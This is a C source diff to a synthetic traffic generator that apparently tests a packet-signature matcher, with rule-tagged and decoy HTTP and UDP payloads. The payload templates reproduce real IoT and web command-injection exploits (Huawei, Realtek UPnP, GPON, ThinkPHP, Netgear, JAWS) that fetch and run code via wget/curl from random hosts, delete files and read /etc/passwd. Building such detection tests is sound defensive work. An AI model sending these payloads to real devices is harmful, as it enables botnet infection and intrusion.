+static size_t udp_template(rng_t *r, int kind, bool rich, uint8_t *buf, sigann_t *ann)
+{
+    pc_t c;
+    pc_init(&c, buf, 1024);
+    switch (kind) {
+    case U_DNS: dns_query(r, &c, rich); break;
+    case U_NTP: ntp_req(r, &c, rich); break;
+    case U_SSDP: ssdp_req(r, &c, rich); break;
+    case U_SIP: sip_req(r, &c, rich); break;
+    case U_MEMC: memc_req(r, &c, rich); break;
+    case U_SNMP: snmp_req(r, &c, rich); break;
+    case U_CLDAP: cldap_req(r, &c, rich); break;
+    case U_WSD: wsd_req(r, &c, rich); break;
+    case U_NBSTAT: nbstat_req(r, &c, rich); break;
+    case U_CHARGEN: pc_mem(&c, "\001", 1); break;
+    case U_RANDOM: {
+        size_t n = rbelow(r, 49);
+        rfill(r, buf, n);
+        c.n = n;
+        break;
+    }
+    default: die_internal("udp template");
+    }
+    pc_done(&c, ann);
+    return c.n;
 }
 
 static const wv_t udp_ports[] = {
@@ -965,35 +1496,12 @@ static const wv_t udp_ports[] = {
     {137, 30}, {19, 15}, {0, 3}, {65536, 182},
 };
 
-/* payload for a UDP probe to dport; returns length (written to buf) */
-static size_t udp_payload(rng_t *r, uint16_t dport, uint8_t *buf)
+/* payload for a UDP probe to dport (the base mix's plain templates) */
+static size_t udp_payload(rng_t *r, uint16_t dport, uint8_t *buf, sigann_t *ann)
 {
-    switch (dport) {
-    case 53: return dns_query(r, buf);
-    case 123:
-        if (rchance(r, 0.7)) { memset(buf, 0, 48); buf[0] = 0x1b; return 48; }     /* mode 3 */
-        buf[0] = 0x17; buf[1] = 0x00; buf[2] = 0x03; buf[3] = 0x2a;                  /* mode 7 monlist */
-        memset(buf + 4, 0, 4);
-        return rchance(r, 0.5) ? 8 : (memset(buf + 8, 0, 40), 48);
-    case 1900: memcpy(buf, ssdp_msearch, sizeof(ssdp_msearch) - 1); return sizeof(ssdp_msearch) - 1;
-    case 5060: memcpy(buf, sip_options, sizeof(sip_options) - 1); return sizeof(sip_options) - 1;
-    case 11211: {
-        static const uint8_t m[] = {0, 1, 0, 0, 0, 1, 0, 0, 's', 't', 'a', 't', 's', '\r', '\n'};
-        memcpy(buf, m, sizeof(m));
-        put16(buf, r16(r));
-        return sizeof(m);
-    }
-    case 161: memcpy(buf, snmp_get, sizeof(snmp_get)); put32(buf + 17, r32(r)); return sizeof(snmp_get);
-    case 389: memcpy(buf, cldap_search, sizeof(cldap_search)); return sizeof(cldap_search);
-    case 3702: memcpy(buf, wsd_probe, sizeof(wsd_probe) - 1); return sizeof(wsd_probe) - 1;
-    case 137: memcpy(buf, nbstat, sizeof(nbstat)); put16(buf, r16(r)); return sizeof(nbstat);
-    case 19: buf[0] = 0x01; return 1;
-    default: {
-        size_t n = rbelow(r, 49);
-        rfill(r, buf, n);
-        return n;
-    }
-    }
+    int k = udp_kind(dport);
+    CHECK(k != U_RANDOM || !udp_rule_port(dport));
+    return udp_template(r, k, false, buf, ann);
 }
 
 /* IPv4 UDP probe. jumbo: build a frame of 1515..9000 bytes. small: payload <= maxsmall */
@@ -1002,21 +1510,25 @@ static void fill_v4_udp(gen_t *g, const src_t *s, bool jumbo, int maxsmall)
     rng_t *r = &g->r;
     uint32_t dst = dark4(r);
     uint16_t dport = port_from(r, WPICK(r, udp_ports));
+    sigann_t ann;
     size_t n;
+    memset(&ann, 0, sizeof(ann));
     if (jumbo) {
-        dport = (uint16_t)rrange(r, 1024, 65535);
+        do dport = (uint16_t)rrange(r, 1024, 65535); while (udp_rule_port(dport));
         n = rrange(r, 1515, MAX_FRAME) - 14 - 20 - 8 - (size_t)g->l2.ntags * 4;
         rfill(r, g->tmp, n);
     } else if (maxsmall >= 0) {
         n = rbelow(r, (uint32_t)maxsmall + 1);
         rfill(r, g->tmp, n);
+        if (udp_rule_port(dport)) memset(g->tmp, 0, n);   /* zeros match no UDP rule */
     } else {
-        n = udp_payload(r, dport, g->tmp);
+        n = udp_payload(r, dport, g->tmp, &ann);
     }
     uint16_t sport = rchance(r, 0.1) ? 53 : (uint16_t)rrange(r, 1024, 65535);
     spec_v4(g, s, dst);
     if (rchance(r, 0.3)) g->sp.fragword = 0x4000;
     l4_udp(&g->sp, sport, dport, g->tmp, n);
+    g->sp.sig = ann;
 }
 
 /* an IPv4 header + 8 bytes quoted inside ICMP errors */
@@ -1152,16 +1664,21 @@ static void fill_v4_frag(gen_t *g, const src_t *s, bool first, size_t maxpay)
     if (first) {
         uint32_t k = rbelow(r, 10);
         if (k < 6) {
+            /* the probe's template, then filler that no rule can match */
             size_t n = rrange(r, 600, (uint32_t)(1472 - tagb));
-            rfill(r, g->tmp, n);
             uint16_t dport = rchance(r, 0.5) ? 53 : port_from(r, WPICK(r, udp_ports));
+            sigann_t ann;
+            size_t t = udp_payload(r, dport, g->tmp, &ann);
+            CHECK(t <= n);
+            rfill_hi(r, g->tmp + t, n - t);
             spec_v4(g, s, dark4(r));
             l4_udp(&g->sp, (uint16_t)rrange(r, 1024, 65535), dport, g->tmp, n);
+            g->sp.sig = ann;
             put16(g->sp.l4 + 4, (uint32_t)(8 + n + 8 * rrange(r, 1, 200)));   /* whole datagram */
         } else if (k < 8) {
             fill_v4_syn(g, s, -1);
             size_t extra = 8 * rrange(r, 1, 100);
-            rfill(r, g->sp.l4 + g->sp.l4len, extra);
+            rfill_hi(r, g->sp.l4 + g->sp.l4len, extra);
             g->sp.l4len += extra;
         } else {
             size_t n = 8 * rrange(r, 60, (uint32_t)(184 - tagb / 4));
@@ -1251,8 +1768,10 @@ static void fill_v6(gen_t *g, const src_t *s, int ext, int upper, int tiny)
         }
     } else if (upper == 17) {
         uint16_t dport = rchance(r, 0.8) ? 53 : rchance(r, 0.5) ? 123 : (uint16_t)rrange(r, 1, 65535);
-        size_t n = udp_payload(r, dport, g->tmp);
+        sigann_t ann;
+        size_t n = udp_payload(r, dport, g->tmp, &ann);
         l4_udp(sp, (uint16_t)rrange(r, 1024, 65535), dport, g->tmp, n);
+        sp->sig = ann;
     } else {
         uint32_t k = rbelow(r, 10);
         size_t n = rchance(r, 0.5) ? 0 : 56;
@@ -1591,18 +2110,19 @@ static void gen_edge(gen_t *g, frame_t *fr, expect_t *ex, const src_t *s)
             g->sp.tflags = TH_PSH | TH_ACK;
             g->sp.l4[13] = TH_PSH | TH_ACK;
             size_t extra = rrange(r, 100, 1400);
-            rfill(r, g->sp.l4 + g->sp.l4len, extra);
+            rfill_hi(r, g->sp.l4 + g->sp.l4len, extra);
             g->sp.l4len += extra;
             build_ip(g, fr, ex);
             cut(fr, fr->l4 + 20 + rbelow(r, (uint32_t)(fr->len - fr->l4 - 20)));
         } else if (k == 1) { /* UDP v4 or v6 cut in payload */
             if (rchance(r, 0.5)) fill_v4_udp(g, s, false, -1); else fill_v6(g, s, 0, 17, -1);
             size_t extra = rrange(r, 32, (uint32_t)(1400 - g->sp.l4len));
-            rfill(r, g->sp.l4 + g->sp.l4len, extra);
+            rfill_hi(r, g->sp.l4 + g->sp.l4len, extra);
             g->sp.l4len += extra;
             put16(g->sp.l4 + 4, (uint32_t)g->sp.l4len);
             build_ip(g, fr, ex);
-            cut(fr, fr->l4 + 8 + rbelow(r, (uint32_t)(fr->len - fr->l4 - 8)));
+            /* never inside a declared match's [lo, hi) */
+            cut(fr, fr->l4 + 8 + pick_keep(r, &g->sp.sig, fr->len - fr->l4 - 8));
         } else if (k == 2) { /* ICMP after its type, code and checksum; other anywhere after the IP header */
             bool icmp = rchance(r, 0.5);
             if (icmp) fill_v4_icmp(g, s, -1); else fill_v4_other(g, s, -1);
@@ -1622,6 +2142,7 @@ static void gen_edge(gen_t *g, frame_t *fr, expect_t *ex, const src_t *s)
         make_base(g, fr, ex, rchance(r, 0.8) ? B_V4_TCP : B_V6_TCP, s);
         uint8_t doff = rchance(r, 0.6) ? (uint8_t)rbelow(r, 5) : 15;
         b[fr->l4 + 12] = (uint8_t)(doff << 4 | (b[fr->l4 + 12] & 0x0f));
+        ex->l4hdr = (uint16_t)(doff * 4);               /* < 20: no payload; 60: past the segment */
         break;
     }
     case E_FRAG_TINY:
@@ -1641,8 +2162,468 @@ static void gen_edge(gen_t *g, frame_t *fr, expect_t *ex, const src_t *s)
     }
 }
 
+/* ------------------------------------------------------------------------ */
+/* payload share: exploit requests over TCP, probes over UDP, decoys         */
+
+#define PAYLOAD_SHARE 0.015     /* default share of the frames that are not edge cases */
+
+static const char *const http_ua[] = {
+    "Hello, world", "Mozilla/5.0", "Hello World", "python-requests/2.27.1", "Go-http-client/1.1", "curl/7.68.0",
+    "Wget(linux)", "Mozila/5.0", "XTC", "r00ts3c-owned-you", "HUAWEI-HG532e/1.0",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36",
+    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+};
+#define N_UA (sizeof(http_ua) / sizeof(http_ua[0]))
+
+static const char huawei_auth[] =
+    "Authorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", "
+    "nonce=\"88645cefb1f9ede0e336e3569d75ee30\", uri=\"/ctrlt/DeviceUpgrade_1\", "
+    "response=\"3612f843a42db38f48f59d2a3597e19c\", algorithm=\"MD5\", qop=\"auth\", nc=00000001, "
+    "cnonce=\"248d1a2560100669\"";
+
+static void pc_ip(rng_t *r, pc_t *c)
+{
+    pc_fmt(c, "%u.%u.%u.%u", rrange(r, 1, 223), rbelow(r, 256), rbelow(r, 256), rrange(r, 1, 254));
+}
+
+/* a downloaded file's path and name: [a-z0-9./] only */
+static void pc_dlfile(rng_t *r, pc_t *c)
+{
+    static const char *const names[] = {"mozi.m", "Mozi.a", "x86", "arm7", "mips", "mpsl", "t.sh", "bins.sh",
+                                        "jaws", "gpon80", "i", "lol.sh"};
+    static const char *const dirs[] = {"", "bins/", "x/y/", ""};
+    uint32_t d = rbelow(r, 5);
+    if (d < 4) pc_put(c, dirs[d]);
+    else {
+        for (uint32_t i = 0, n = rrange(r, 3, 6); i < n; i++) pc_fmt(c, "%c", 'a' + (int)rbelow(r, 26));
+        pc_put(c, "/");
+    }
+    if (rchance(r, 0.6)) pc_put(c, names[rbelow(r, 12)]);
+    else
+        for (uint32_t i = 0, n = rrange(r, 2, 8); i < n; i++)
+            pc_fmt(c, "%c", "abcdefghijklmnopqrstuvwxyz0123456789"[rbelow(r, 36)]);
+}
+
+/* separators 2007 names; in a request URI no bare whitespace */
+static const char *pick_sep(rng_t *r, bool uri)
+{
+    static const char *const seps[] = {" ", "+", "%20", "${IFS}", "\t"};
+    return uri ? seps[rrange(r, 1, 3)] : seps[rbelow(r, 5)];
+}
+
+/* "wget<sep>http://host[:port]/file" (2007; tool and scheme caseless);
+ * the caller writes at least one more byte after it */
+static void pc_loader_url(rng_t *r, pc_t *c, const char *sep)
+{
+    static const uint16_t ports[] = {80, 8080, 8088, 3000, 81, 443};
+    pc_case(r, c, rchance(r, 0.7) ? "wget" : "curl", 0.3);
+    pc_put(c, sep);
+    pc_case(r, c, rchance(r, 0.8) ? "http" : "https", 0.2);
+    pc_put(c, "://");
+    size_t lo = c->n;
+    pc_ip(r, c);
+    if (rchance(r, 0.3)) pc_fmt(c, ":%u", ports[rbelow(r, 6)]);
+    pc_put(c, "/");
+    pc_dlfile(r, c);
+    pc_mark(c, 2007, lo, c->n + 1);
+}
+
+/* a downloader without an http(s) URL (matches nothing) */
+static void pc_loader_nourl(rng_t *r, pc_t *c, const char *sep)
+{
+    switch (rbelow(r, 4)) {
+    case 0:
+        pc_fmt(c, "wget%s-g%s", sep, sep);
+        pc_ip(r, c);
+        pc_fmt(c, "%s-l%s/tmp/.", sep, sep);
+        pc_dlfile(r, c);
+        pc_fmt(c, "%s-r%s/", sep, sep);
+        pc_dlfile(r, c);
+        break;
+    case 1:
+        pc_fmt(c, "wget%s", sep);
+        pc_ip(r, c);
+        pc_put(c, "/");
+        pc_dlfile(r, c);
+        break;
+    case 2:
+        pc_fmt(c, "tftp%s-g%s-r%s", sep, sep, sep);
+        pc_dlfile(r, c);
+        pc_put(c, sep);
+        pc_ip(r, c);
+        break;
+    default:
+        pc_fmt(c, "curl%s-O%s", sep, sep);
+        pc_ip(r, c);
+        pc_fmt(c, ":%u/", rrange(r, 1024, 9999));
+        pc_dlfile(r, c);
+        break;
+    }
+}
+
+static uint16_t any_http_port(rng_t *r)
+{
+    static const wv_t p[] = {{80, 30}, {8080, 20}, {81, 6}, {88, 4}, {8000, 6}, {8081, 5}, {8443, 3}, {5555, 3},
+                             {60001, 5}, {37215, 3}, {52869, 3}, {65536, 12}};
+    return port_from(r, WPICK(r, p));
+}
+
+/* request line L (with its CRLF), headers in a random order (Content-Length
+ * whenever there is a body; the others each 4 times in 5, left out where
+ * they would push a declaration of the body past SIG_WITHIN), CRLF, body B */
+static size_t http_join(rng_t *r, uint8_t *out, size_t cap, sigann_t *ann, const pc_t *L, const char *host,
+                        const char *xh, const pc_t *B)
+{
+    char hh[96], ua[160], co[32], cl[48];
+    const char *h[8];
+    uint32_t n = 0;
+    size_t bh = 0;
+    for (int i = 0; i < B->a.n; i++)
+        if (B->a.m[i].hi > bh) bh = B->a.m[i].hi;
+    snprintf(hh, sizeof(hh), "Host: %s", host);
+    snprintf(ua, sizeof(ua), "User-Agent: %s", http_ua[rbelow(r, N_UA)]);
+    snprintf(co, sizeof(co), "Connection: %s", rchance(r, 0.5) ? "keep-alive" : "close");
+    h[n++] = hh;
+    h[n++] = ua;
+    h[n++] = co;
+    h[n++] = "Accept: */*";
+    h[n++] = rchance(r, 0.5) ? "Accept-Encoding: gzip, deflate" : "Accept-Language: en-US,en;q=0.9";
+    if (xh) h[n++] = xh;
+    if (B->n) {
+        snprintf(cl, sizeof(cl), "Content-Length: %zu", B->n);
+        h[n++] = cl;
+    }
+    shuffle_str(r, h, n);
+    pc_t c;
+    pc_init(&c, out, cap);
+    pc_cat(&c, L);
+    size_t reserve = B->n ? strlen(cl) + 2 : 0;
+    for (uint32_t i = 0; i < n; i++) {
+        size_t l = strlen(h[i]) + 2;
+        if (h[i] == cl) {
+            pc_fmt(&c, "%s\r\n", h[i]);
+            reserve = 0;
+            continue;
+        }
+        if (!rchance(r, 0.8)) continue;
+        if (bh && c.n + l + reserve + 2 + bh > SIG_WITHIN) continue;
+        pc_fmt(&c, "%s\r\n", h[i]);
+    }
+    pc_put(&c, "\r\n");
+    pc_cat(&c, B);
+    pc_done(&c, ann);
+    return c.n;
+}
+
+enum { H_HUAWEI, H_REALTEK, H_JAWS, H_GPON, H_THINKPHP, H_NETGEAR, H_LOADER, H_DECOY };
+static const wv_t http_kinds[] = {{H_HUAWEI, 13}, {H_REALTEK, 11}, {H_JAWS, 11}, {H_GPON, 12}, {H_THINKPHP, 10},
+                                  {H_NETGEAR, 10}, {H_LOADER, 12}, {H_DECOY, 21}};
+
+static uint16_t pick_u16(rng_t *r, const uint16_t *v, uint32_t n) { return v[rbelow(r, n)]; }
+#define PICK16(r, ...) pick_u16((r), (const uint16_t[]){__VA_ARGS__}, \
+                                sizeof((const uint16_t[]){__VA_ARGS__}) / sizeof(uint16_t))
+
+static const char gpon_form[] = "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`";
+
+/* An HTTP request over TCP (exploits 2001-2006 with or without a downloader
+ * URL, loaders 2007, decoys): returns its length (written to out), sets
+ * *dport and the declarations.  dst: the destination address's text. */
+static size_t http_payload(rng_t *r, uint8_t *out, size_t cap, sigann_t *ann, uint16_t *dport, const char *dst,
+                           bool v6)
+{
+    uint8_t lb[768], bb[1024];
+    pc_t L, B;
+    const char *xh = NULL;
+    bool url = rchance(r, 0.6);
+    const char *sep;
+    size_t lo;
+    pc_init(&L, lb, sizeof(lb));
+    pc_init(&B, bb, sizeof(bb));
+    switch (WPICK(r, http_kinds)) {
+    case H_HUAWEI:
+        *dport = rchance(r, 0.85) ? 37215 : PICK16(r, 37216, 80, 8080, 52869);
+        pc_put(&L, "POST /ctrlt/DeviceUpgrade_1");
+        lo = L.n;
+        pc_put(&L, " HTTP/1.1\r\n");
+        pc_mark(&L, 2001, lo, L.n);
+        xh = huawei_auth;
+        pc_put(&B, "<?xml version=\"1.0\" ?><s:Envelope");
+        if (!url)
+            pc_put(&B, " xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
+                       "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"");
+        pc_put(&B, "><s:Body><u:Upgrade");
+        if (!url) pc_put(&B, " xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"");
+        pc_put(&B, "><NewStatusURL>$(/bin/busybox ");
+        sep = pick_sep(r, false);
+        if (url) {
+            pc_loader_url(r, &B, sep);
+            pc_fmt(&B, "%s-O%s/tmp/h;sh%s/tmp/h", sep, sep, sep);
+        } else {
+            pc_loader_nourl(r, &B, sep);
+        }
+        pc_put(&B, ")</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body>"
+                   "</s:Envelope>\r\n\r\n");
+        break;
+    case H_REALTEK:
+        *dport = rchance(r, 0.85) ? 52869 : PICK16(r, 52870, 80, 37215, 8080);
+        pc_put(&L, "POST /picsdesc.xml");
+        lo = L.n;
+        pc_put(&L, " HTTP/1.1\r\n");
+        pc_mark(&L, 2002, lo, L.n);
+        xh = "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping";
+        pc_put(&B, "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping><NewInternalClient>`cd /var; ");
+        sep = pick_sep(r, false);
+        if (url) {
+            pc_loader_url(r, &B, sep);
+            pc_put(&B, " -O r; chmod 777 r; ./r realtek");
+        } else {
+            pc_loader_nourl(r, &B, sep);
+            pc_put(&B, "; sh r");
+        }
+        pc_put(&B, "`</NewInternalClient><NewProtocol>TCP</NewProtocol></u:AddPortMapping></s:Body></s:Envelope>");
+        break;
+    case H_JAWS:
+        *dport = any_http_port(r);
+        pc_put(&L, "GET /shell?cd+/tmp");
+        pc_mark(&L, 2003, L.n, L.n);
+        pc_put(&L, ";rm+-rf+*;");
+        sep = pick_sep(r, true);
+        if (url) pc_loader_url(r, &L, sep);
+        else pc_loader_nourl(r, &L, sep);
+        pc_put(&L, ";sh+/tmp/jaws HTTP/1.1\r\n");
+        break;
+    case H_GPON:
+        *dport = rchance(r, 0.85) ? (rchance(r, 0.6) ? 80 : 8080) : PICK16(r, 8081, 81, 8000, 8888, 37215);
+        pc_put(&L, "POST /GponForm/diag_Form?images/");
+        lo = L.n;
+        pc_put(&L, " HTTP/1.1\r\n");
+        pc_mark(&L, 2004, lo, L.n);
+        pc_put(&B, gpon_form);
+        sep = pick_sep(r, true);
+        if (url) {
+            pc_fmt(&B, "busybox%s", sep);
+            pc_loader_url(r, &B, sep);
+            pc_fmt(&B, "%s-O%s/tmp/gpon80;sh%s/tmp/gpon80", sep, sep, sep);
+        } else if (rchance(r, 0.5)) {
+            pc_loader_nourl(r, &B, sep);
+        } else {
+            pc_put(&B, "ls");
+        }
+        pc_put(&B, "`&ipv=0");
+        break;
+    case H_THINKPHP: {
+        static const char *const tp[] = {"/Index/\\think\\app/", "index/\\think\\app/", "/index/\\think\\Container/",
+                                         "/index/\\think\\app/"};
+        *dport = any_http_port(r);
+        pc_fmt(&L, "GET /index.php?s=%s", tp[rbelow(r, 4)]);
+        pc_put(&L, "invokefunction&function=call_user_func_array");
+        pc_mark(&L, 2005, L.n, L.n);
+        if (url) {
+            sep = pick_sep(r, true);
+            pc_put(&L, "&vars[0]=shell_exec&vars[1][]=");
+            pc_loader_url(r, &L, sep);
+            pc_fmt(&L, "%s-O%s/tmp/t;sh%s/tmp/t", sep, sep, sep);
+        } else {
+            pc_put(&L, rchance(r, 0.5) ? "&vars[0]=md5&vars[1][]=HelloThinkPHP21" : "&vars[0]=phpinfo&vars[1][]=1");
+        }
+        pc_put(&L, " HTTP/1.1\r\n");
+        break;
+    }
+    case H_NETGEAR:
+        *dport = any_http_port(r);
+        pc_put(&L, "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd");
+        pc_mark(&L, 2006, L.n, L.n);
+        pc_put(&L, "&cmd=");
+        if (url) {
+            sep = pick_sep(r, true);
+            pc_put(&L, "rm+-rf+/tmp/*;");
+            pc_loader_url(r, &L, sep);
+            pc_fmt(&L, "%s-O%s/tmp/netgear;sh%snetgear", sep, sep, sep);
+        } else {
+            pc_put(&L, "cat+/etc/passwd");
+        }
+        pc_put(&L, "&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n");
+        break;
+    case H_LOADER: {
+        *dport = any_http_port(r);
+        uint32_t k = rbelow(r, 3);
+        if (k == 0) {
+            pc_put(&L, "POST /boaform/admin/formPing HTTP/1.1\r\n");
+            pc_put(&B, "target_addr=;");
+            pc_loader_url(r, &B, pick_sep(r, false));
+            pc_put(&B, "|sh&waninf=1_INTERNET_R_VID_154");
+        } else if (k == 1) {
+            pc_put(&L, "GET /cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;");
+            pc_loader_url(r, &L, "${IFS}");
+            pc_put(&L, ";sh${IFS}/var/tmp/x HTTP/1.1\r\n");
+        } else {
+            pc_put(&L, "POST /tmUnblock.cgi HTTP/1.1\r\n");
+            pc_put(&B, "ttcp_ip=-h `cd /tmp; ");
+            pc_loader_url(r, &B, pick_sep(r, false));
+            pc_put(&B, " -O l; sh l`&action=&ttcp_num=2&ttcp_size=2&submit_button=&change_action=&commit=0&StartEPI=1");
+        }
+        break;
+    }
+    default: {                  /* decoys: near misses of every rule, nothing matches */
+        uint32_t k = rbelow(r, 10);
+        L.a.decoy = 1;
+        *dport = any_http_port(r);
+        if (k == 0) {
+            *dport = 52869;
+            pc_put(&L, "GET /picsdesc.xml HTTP/1.1\r\n");
+        } else if (k == 1) {
+            *dport = 37215;
+            pc_put(&L, "POST /ctrlt/Other HTTP/1.1\r\n");
+            pc_put(&B, "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(echo HUAWEIUPNP)"
+                       "</NewStatusURL></u:Upgrade></s:Body></s:Envelope>");
+        } else if (k == 2) {
+            *dport = PICK16(r, 80, 8080, 3128, 8888);
+            pc_put(&L, "OPTIONS http://");
+            pc_ip(r, &L);
+            pc_put(&L, "/ HTTP/1.1\r\n");
+        } else if (k == 3) {
+            pc_put(&L, "GET /shell?cd+/var;rm+-rf+*;");
+            pc_loader_nourl(r, &L, "+");
+            pc_put(&L, ";sh+/var/jaws HTTP/1.1\r\n");
+        } else if (k == 4) {
+            pc_put(&L, "GET /cgi-bin/admin.cgi?cmd=");
+            pc_loader_nourl(r, &L, pick_sep(r, true));
+            pc_put(&L, " HTTP/1.1\r\n");
+        } else if (k == 5) {
+            static const char *const plain[] = {"GET / HTTP/1.1\r\n", "GET /robots.txt HTTP/1.1\r\n",
+                                                "HEAD / HTTP/1.0\r\n", "GET /favicon.ico HTTP/1.1\r\n"};
+            pc_put(&L, plain[rbelow(r, 4)]);
+        } else if (k == 6) {    /* an anchored request not at the payload's start */
+            uint32_t j = rbelow(r, 3);
+            if (j == 0) {
+                *dport = PICK16(r, 80, 8080);
+                pc_put(&L, "\r\nPOST /GponForm/diag_Form?images/ HTTP/1.1\r\n");
+                pc_put(&B, gpon_form);
+                pc_put(&B, "ls`&ipv=0");
+            } else if (j == 1) {
+                *dport = 52869;
+                pc_put(&L, "\r\nPOST /picsdesc.xml HTTP/1.1\r\n");
+            } else {
+                *dport = 37215;
+                pc_put(&L, " POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n");
+            }
+        } else if (k == 7) {
+            *dport = PICK16(r, 80, 8080);
+            pc_put(&L, "POST /GponForm/diag_Form?style/ HTTP/1.1\r\n");
+            pc_put(&B, gpon_form);
+            pc_put(&B, "ls`&ipv=0");
+        } else if (k == 8) {
+            pc_put(&L, "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func"
+                       "&vars[0]=phpinfo&vars[1][]=1 HTTP/1.1\r\n");
+        } else {                /* the URL percent-encoded: no "http://" */
+            pc_put(&L, "POST /tmUnblock.cgi HTTP/1.1\r\n");
+            pc_put(&B, "ttcp_ip=-h+%60cd+%2Ftmp%3B+wget+http%3A%2F%2F");
+            pc_ip(r, &B);
+            pc_put(&B, "%2Fx%3B+sh+x%60&StartEPI=1");
+        }
+        break;
+    }
+    }
+    char host[INET6_ADDRSTRLEN + 16];
+    if (*dport == 80) snprintf(host, sizeof(host), v6 ? "[%s]" : "%s", dst);
+    else snprintf(host, sizeof(host), v6 ? "[%s]:%u" : "%s:%u", dst, *dport);
+    return http_join(r, out, cap, ann, &L, host, xh, &B);
+}
+
+/* a TCP PSH|ACK segment carrying an HTTP request */
+static void fill_payload_tcp(gen_t *g, const src_t *s, bool v6)
+{
+    static const uint16_t wins[] = {502, 229, 29200, 64240, 65535};
+    rng_t *r = &g->r;
+    spec_t *sp = &g->sp;
+    char dst[INET6_ADDRSTRLEN];
+    if (v6) {
+        spec_v6(g, s);
+        if (rchance(r, 0.2)) {
+            sp->ext[0] = (ext_t){(uint8_t)(rchance(r, 0.5) ? 0 : 60), 0, 8, 0};
+            sp->next_ext = 1;
+        }
+        if (!inet_ntop(AF_INET6, sp->d6, dst, sizeof(dst))) die_internal("inet_ntop");
+    } else {
+        spec_v4(g, s, dark4(r));
+        if (rchance(r, 0.6)) sp->fragword = 0x4000;
+        snprintf(dst, sizeof(dst), "%u.%u.%u.%u", sp->d4 >> 24, (sp->d4 >> 16) & 0xff, (sp->d4 >> 8) & 0xff,
+                 sp->d4 & 0xff);
+    }
+    sigann_t ann;
+    uint16_t dport;
+    size_t n = http_payload(r, g->tmp, 1200, &ann, &dport, dst, v6);
+    uint8_t opt[12] = {1, 1, 8, 10};
+    put32(opt + 4, r32(r));
+    put32(opt + 8, r32(r));
+    bool o = rchance(r, 0.5);
+    l4_tcp(sp, (uint16_t)rrange(r, 1024, 65535), dport, r32(r), r32(r), TH_PSH | TH_ACK, wins[rbelow(r, 5)],
+           o ? opt : NULL, o ? 12 : 0, 0, r);
+    memcpy(sp->l4 + sp->l4len, g->tmp, n);
+    sp->l4len += n;
+    sp->sig = ann;
+}
+
+/* a UDP probe with a rich template, to its rule's port, sometimes to a
+ * port outside the filter (the rule then does not count) */
+static void fill_payload_udp(gen_t *g, const src_t *s, bool v6)
+{
+    static const wv_t kinds[] = {{U_DNS, 20}, {U_NTP, 14}, {U_SSDP, 10}, {U_SIP, 12}, {U_MEMC, 8}, {U_SNMP, 8},
+                                 {U_CLDAP, 8}, {U_WSD, 8}, {U_NBSTAT, 6}, {U_CHARGEN, 2}, {U_RANDOM, 4}};
+    static const uint16_t own[U_KINDS] = {53, 123, 1900, 5060, 11211, 161, 389, 3702, 137, 19, 0};
+    static const uint16_t off[U_KINDS] = {5353, 124, 1901, 5062, 11212, 162, 636, 3703, 138, 0, 0};
+    rng_t *r = &g->r;
+    int k = (int)WPICK(r, kinds);
+    uint16_t dport = own[k];
+    if (k == U_SIP && rchance(r, 0.4)) dport = 5061;
+    if (off[k] && rchance(r, 0.15)) dport = off[k];
+    if (k == U_RANDOM)
+        do dport = (uint16_t)rrange(r, 1024, 65535); while (udp_rule_port(dport));
+    CHECK(!off[k] || !udp_rule_port(off[k]));
+    sigann_t ann;
+    size_t n = udp_template(r, k, true, g->tmp, &ann);
+    if (v6) spec_v6(g, s);
+    else spec_v4(g, s, dark4(r));
+    l4_udp(&g->sp, (uint16_t)rrange(r, 1024, 65535), dport, g->tmp, n);
+    g->sp.sig = ann;
+}
+
+/* One frame of the payload share: 65 % TCP (15 % of those IPv6), 35 % UDP
+ * (35 % IPv6); 8 % cut by the capture inside the payload, 8 % with an IP
+ * length that ends inside the payload (the rest of it stays in the frame
+ * and must not be scanned); both never inside a declared [lo, hi). */
+static void gen_payload(gen_t *g, frame_t *fr, expect_t *ex)
+{
+    rng_t *r = &g->r;
+    src_t s;
+    bool tcp = rchance(r, 0.65);
+    bool v6 = rchance(r, tcp ? 0.15 : 0.35);
+    if (v6) pick_src6(g, &s); else pick_src(g, &s);
+    fr->key = s.key;
+    if (tcp) fill_payload_tcp(g, &s, v6); else fill_payload_udp(g, &s, v6);
+    build_ip(g, fr, ex);
+    size_t hdr = ex->l4hdr, n = g->sp.l4len - hdr;
+    uint32_t k = rbelow(r, 100);
+    if (n == 0 || k >= 16) return;
+    size_t keep = pick_keep(r, &g->sp.sig, n);
+    if (k < 8) {
+        cut(fr, fr->l4 + hdr + keep);
+        g->pay_cut++;
+    } else {
+        uint32_t iplen = (uint32_t)(fr->l4 + hdr + keep - fr->l3);
+        if (g->sp.ver == 4) {
+            put16(fr->b + fr->l3 + 2, iplen);
+            v4_hdr_csum(fr->b + fr->l3);
+        } else {
+            put16(fr->b + fr->l3 + 4, iplen - 40);
+        }
+        ex->iplen = iplen;
+        g->pay_short++;
+    }
+}
+
 /* One packet: frame + expectation + split key.  wave_port >= 0: scan wave. */
-static void gen_packet(gen_t *g, frame_t *fr, expect_t *ex, const src_t *wave_src, int wave_port)
+static void gen_packet_1(gen_t *g, frame_t *fr, expect_t *ex, const src_t *wave_src, int wave_port)
 {
     rng_t *r = &g->r;
     src_t s;
@@ -1652,6 +2633,10 @@ static void gen_packet(gen_t *g, frame_t *fr, expect_t *ex, const src_t *wave_sr
         pick_src(g, &s);
         fr->key = s.key;
         gen_edge(g, fr, ex, &s);
+        return;
+    }
+    if (g->payload_share > 0 && rchance(r, g->payload_share)) {   /* payload share, waves or not */
+        gen_payload(g, fr, ex);
         return;
     }
     if (wave_src) {
